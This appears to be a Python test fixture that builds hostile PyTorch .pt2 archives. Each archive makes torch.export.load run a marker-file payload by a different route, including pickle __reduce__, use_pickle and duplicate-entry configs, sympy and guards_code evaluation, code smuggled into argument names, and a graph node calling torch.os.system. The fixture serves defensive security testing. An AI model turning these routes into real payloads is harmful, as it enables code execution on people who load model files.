"""Hostile ``.pt2`` archives for the tests: each one makes plain ``torch.export.load`` (or the program it
returns) create a marker file, by a different route.  Built by editing a real exported program.

``ATTACKS[name](marker) -> bytes`` gives the archive; ``TORCH_RUNS`` names those that plain torch
2.13 really executes (checked by ``test_plain_torch_runs_the_payload``, so the set cannot go stale).
"""

from __future__ import annotations

import copy
import io
import json
import pickle
import zipfile
from typing import Callable

import torch


class _OpenFile:
    """Unpickling this calls ``open(path, "w")``: the payload leaves a marker file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def pickled_payload(marker: str) -> bytes:
    return pickle.dumps(_OpenFile(marker), protocol=2)


def torch_saved_payload(marker: str) -> bytes:
    buf = io.BytesIO()
    torch.save(_OpenFile(marker), buf)
    return buf.getvalue()


class Scaled(torch.nn.Module):
    """A linear layer times a tensor constant (the program has weights and constants)."""

    def __init__(self) -> None:
        super().__init__()
        self.lin = torch.nn.Linear(3, 2)
        self.k = torch.tensor([2.0, 3.0])

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.nn.functional.silu(self.lin(x)) * self.k


def clean_archive() -> bytes:
    """A plain exported program (3 -> 2 features, dynamic batch), as torch.export.save writes it."""
    torch.manual_seed(0)
    prog = torch.export.export(Scaled(), (torch.zeros(2, 3),), dynamic_shapes=({0: torch.export.Dim("batch", min=1)},))
    buf = io.BytesIO()
    torch.export.save(prog, buf)
    return buf.getvalue()


Entries = list[tuple[str, bytes]]


def read_entries(data: bytes) -> Entries:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def write_entries(entries: Entries) -> bytes:
    """A zip with exactly these entries, in this order (duplicates kept: zipfile only warns)."""
    buf = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name"
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            for name, data in entries:
                z.writestr(name, data)
    return buf.getvalue()


def _root(entries: Entries) -> str:
    return entries[0][0].split("/", 1)[0] + "/"


def _get(entries: Entries, suffix: str) -> bytes:
    return next(d for n, d in entries if n.endswith(suffix))


def _replace(entries: Entries, suffix: str, data: bytes) -> Entries:
    return [(n, data if n.endswith(suffix) else d) for n, d in entries]


def _edit_model(entries: Entries, edit: Callable[[dict], None]) -> Entries:
    model = json.loads(_get(entries, "models/model.json"))
    edit(model)
    return _replace(entries, "models/model.json", json.dumps(model).encode())


CONSTANTS = "data/constants/model_constants_config.json"
WEIGHTS = "data/weights/model_weights_config.json"


def duplicate_constants_opaque(marker: str) -> bytes:
    """The issue's attack: two constants configs; torch reads the first (pickle.loads), zipfile the last."""
    e = read_entries(clean_archive())
    root = _root(e)
    cfg = json.loads(_get(e, CONSTANTS))
    evil = copy.deepcopy(cfg)
    for meta in evil["config"].values():
        meta.update(path_name="opaque_obj_0", use_pickle=True, tensor_meta=None)
    return write_entries([(root + CONSTANTS, json.dumps(evil).encode()),
                          (root + "data/constants/opaque_obj_0", pickled_payload(marker)), *e])


def duplicate_constants_use_pickle(marker: str) -> bytes:
    """Duplicate constants config marking the constant ``use_pickle`` (torch.load, weights_only=False)."""
    e = read_entries(clean_archive())
    root = _root(e)
    evil = json.loads(_get(e, CONSTANTS))
    for meta in evil["config"].values():
        meta.update(path_name="tensor_9", use_pickle=True)
    return write_entries([(root + CONSTANTS, json.dumps(evil).encode()),
                          (root + "data/constants/tensor_9", torch_saved_payload(marker)), *e])


def weights_use_pickle(marker: str) -> bytes:
    """A weight marked ``use_pickle`` in the only weights config (no duplicate needed)."""
    e = read_entries(clean_archive())
    root = _root(e)
    cfg = json.loads(_get(e, WEIGHTS))
    first = next(iter(cfg["config"].values()))
    first.update(path_name="weight_9", use_pickle=True)
    return write_entries(_replace(e, WEIGHTS, json.dumps(cfg).encode()) + [(root + "data/weights/weight_9", torch_saved_payload(marker))])


def custom_object_constant(marker: str) -> bytes:
    """A constant stored as a TorchScript custom object (``torch._C._pickle_load_obj``)."""
    e = read_entries(clean_archive())
    root = _root(e)
    cfg = json.loads(_get(e, CONSTANTS))
    for meta in cfg["config"].values():
        meta.update(path_name="custom_obj_0", use_pickle=True, tensor_meta=None)
    return write_entries(_replace(e, CONSTANTS, json.dumps(cfg).encode()) + [(root + "data/constants/custom_obj_0", pickled_payload(marker))])


def legacy_pickled_weights(marker: str) -> bytes:
    """The legacy layout: the state dict as one torch.save pickle (``data/weights/model.pt``)."""
    e = read_entries(clean_archive())
    root = _root(e)
    return write_entries([(root + "data/weights/model.pt", torch_saved_payload(marker)), *e])


def sample_inputs_pickle(marker: str) -> bytes:
    """Sample inputs are a torch.save pickle; torch retries with weights_only=False when weights_only fails."""
    e = read_entries(clean_archive())
    return write_entries(_replace(e, "data/sample_inputs/model.pt", torch_saved_payload(marker)))


def sympy_expression(marker: str) -> bytes:
    """A symbolic size is parsed with ``sympy.sympify``, which evaluates Python."""
    code = f"Integer.__new__.__globals__['__builtins__']['open']({marker!r}, 'w')"

    def edit(model: dict) -> None:
        tv = model["graph_module"]["graph"]["tensor_values"]["x"]
        tv["sizes"][0]["as_expr"]["expr_str"] = code

    return write_entries(_edit_model(read_entries(clean_archive()), edit))


def guards_code(marker: str) -> bytes:
    """``guards_code`` is Python source that ``ExportedProgram.module()`` compiles and runs on every call."""

    def edit(model: dict) -> None:
        model["guards_code"] = [f"open({marker!r}, 'w') is not None"]

    return write_entries(_edit_model(read_entries(clean_archive()), edit))


def forward_arg_names(marker: str) -> bytes:
    """Argument names are pasted into the generated ``forward`` source (a default value runs at definition)."""

    def edit(model: dict) -> None:
        for entry in model["graph_module"]["module_call_graph"]:
            if entry["signature"]:
                entry["signature"]["forward_arg_names"] = [f"x=open({marker!r}, 'w')"]

    return write_entries(_edit_model(read_entries(clean_archive()), edit))


def graph_calls_os_system(marker: str) -> bytes:
    """A graph node whose target is ``torch.os.system``: any callable reachable from ``torch`` can be named."""

    def edit(model: dict) -> None:
        graph = model["graph_module"]["graph"]
        graph["tensor_values"]["payload_out"] = graph["tensor_values"]["x"]
        graph["nodes"].insert(0, {"target": "torch.os.system",
                         "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}],
                         "outputs": [{"as_tensor": {"name": "payload_out"}}], "metadata": {}, "is_hop_single_tensor_return": None,
                         "name": "payload"})

    return write_entries(_edit_model(read_entries(clean_archive()), edit))


def treespec_imports_module(marker: str) -> bytes:
    """A ``collections.defaultdict`` tree spec imports the module its context names (``importlib``)."""
    def edit(model: dict) -> None:
        for entry in model["graph_module"]["module_call_graph"]:
            if entry["signature"]:
                ctx = {"default_factory_module": "phasm_pt2_marker_module", "default_factory_name": "f",
                       "dict_context": []}
                spec = [1, {"type": "collections.defaultdict", "context": ctx, "children_spec": []}]
                entry["signature"]["out_spec"] = json.dumps(spec)

    return write_entries(_edit_model(read_entries(clean_archive()), edit))


def aotinductor_library(marker: str) -> bytes:
    """An AOTInductor package: torch would dlopen the compiled shared library inside."""
    e = read_entries(clean_archive())
    root = _root(e)
    return write_entries(e + [(root + "data/aotinductor/model/model.so", b"\x7fELF" + b"\0" * 64)])


ATTACKS: dict[str, Callable[[str], bytes]] = {
    f.__name__: f for f in (
        duplicate_constants_opaque, duplicate_constants_use_pickle, weights_use_pickle, custom_object_constant,
        legacy_pickled_weights, sample_inputs_pickle, sympy_expression, guards_code, forward_arg_names,
        graph_calls_os_system, treespec_imports_module, aotinductor_library)
}
